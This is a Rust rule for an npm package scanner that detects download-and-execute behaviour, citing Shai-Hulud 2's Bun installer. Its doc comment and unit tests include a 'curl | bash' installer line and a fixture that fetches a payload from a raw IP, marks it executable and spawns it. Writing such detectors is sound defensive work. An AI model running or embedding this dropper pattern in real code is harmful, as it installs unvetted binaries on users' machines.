use crate::context::{FileContext, FileKind};
use crate::report::{Confidence, Finding, Severity};
use crate::rule::{Rule, RuleMeta, declare_rule};
use crate::rules::{
    is_public_ipv4, is_well_known_host, text_contains, url_host, values, values_haystack,
};

declare_rule! {
    /// ### What it does
    /// Finds code that downloads something and runs it: the Bun installer (`bun.sh/install`),
    /// or a file that makes network requests, marks a file executable (`chmod`) and spawns a
    /// process. Downloads from registries, well-known hosts or the vendor's own domain are low,
    /// from other hosts medium, from raw IP addresses high.
    ///
    /// ### Why is this bad?
    /// Native droppers and Shai-Hulud 2's `setup_bun.js` fetch a runtime or binary at install
    /// time and run it, so the payload never appears in the package.
    ///
    /// ### Examples
    /// Incorrect:
    /// ```js
    /// execSync('curl -fsSL https://bun.sh/install | bash');
    /// ```
    /// Correct:
    /// ```js
    /// // esbuild: download our own platform binary from registry.npmjs.org, verify, run --version
    /// ```
    DownloadExecute, "download-execute", Download,
    tokens = &["http", "fetch", "XMLHttpRequest", "WebSocket", "net", "dgram", "dns", "child_process", "exec", "spawn", "fork", "process", "curl", "wget", "writeFile"]
}

impl Rule for DownloadExecute {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn run_file(&self, file: &FileContext<'_>, out: &mut Vec<Finding>) {
        if !matches!(file.kind, FileKind::Script | FileKind::ShellLike) {
            return;
        }
        let file_values = values(file);
        let haystack = values_haystack(file);
        let names_bun_installer = |text: &str| {
            text_contains(text, "bun.sh/install") || text_contains(text, "bun.com/install")
        };
        // No value names the installer when their haystack does not.
        let searched: &[_] = if names_bun_installer(haystack) {
            file_values
        } else {
            &[]
        };
        for value in searched {
            if names_bun_installer(value.text) {
                out.push(file.finding(
                    &Self::META,
                    Severity::High,
                    Confidence::High,
                    Some(value.offset),
                    "downloads and installs the Bun runtime".to_owned(),
                    None,
                ));
                return;
            }
        }
        let Some(facts) = file.js else { return };
        // Cheapest first: most files make no network call, and the text scans come last.
        let Some(network) = file.network_calls().next() else {
            return;
        };
        if file.process_calls().next().is_none() {
            return;
        }
        let chmod = facts.calls.iter().any(|call| {
            call.callee.starts_with("fs.chmod") || call.callee.starts_with("fs.promises.chmod")
        }) || text_contains(file.text, "0o755")
            || text_contains(file.text, "0o777")
            || text_contains(file.text, "chmod +x");
        if !chmod {
            return;
        }
        let urls: Vec<&str> = file_values
            .iter()
            .filter(|value| value.text.len() < 500 && value.text.contains("://"))
            .map(|value| value.text)
            .collect();
        let raw_or_plain = urls
            .iter()
            .find_map(|url| url_host(url).filter(|host| is_public_ipv4(host)));
        // A vendor downloading its own binary (`install.serverless.com` for `serverless`).
        let own_name = file
            .manifest
            .map(|manifest| {
                manifest
                    .name
                    .rsplit('/')
                    .next()
                    .unwrap_or_default()
                    .to_ascii_lowercase()
            })
            .filter(|name| name.len() >= 4);
        let own_host = |host: &str| {
            own_name.as_deref().is_some_and(|name| {
                host.to_ascii_lowercase()
                    .split('.')
                    .any(|label| label == name)
            })
        };
        let unknown = urls.iter().find_map(|url| {
            url_host(url).filter(|host| {
                !is_well_known_host(host)
                    && !own_host(host)
                    && host.contains('.')
                    && !host.contains('$')
            })
        });
        let (severity, message) = match (raw_or_plain, unknown) {
            (Some(host), _) => (
                Severity::High,
                format!(
                    "downloads from the raw IP `{host}`, makes the file executable and runs processes"
                ),
            ),
            (None, Some(host)) => (
                Severity::Medium,
                format!("downloads from `{host}`, makes the file executable and runs processes"),
            ),
            (None, None) => (
                Severity::Low,
                "downloads a file from a well-known host, makes it executable and runs processes"
                    .to_owned(),
            ),
        };
        out.push(file.finding(
            &Self::META,
            severity,
            Confidence::Medium,
            Some(network.offset as usize),
            message,
            None,
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::test_rule;

    #[test]
    fn test() {
        let pass = vec![
            "const https = require('https'); https.get('https://registry.npmjs.org/x');".into(),
            "const fs = require('fs'); fs.chmodSync('bin/cli', 0o755);".into(),
        ];
        let fail = vec![
            "require('child_process').execSync('curl -fsSL https://bun.sh/install | bash');".into(),
            "const http = require('http'); const fs = require('fs'); const cp = require('child_process'); http.get('http://45.9.1.2/payload', (r) => { r.pipe(fs.createWriteStream('/tmp/p')); fs.chmodSync('/tmp/p', 0o755); cp.spawn('/tmp/p'); });".into(),
        ];
        test_rule(DownloadExecute::META.name, pass, fail);
    }
}
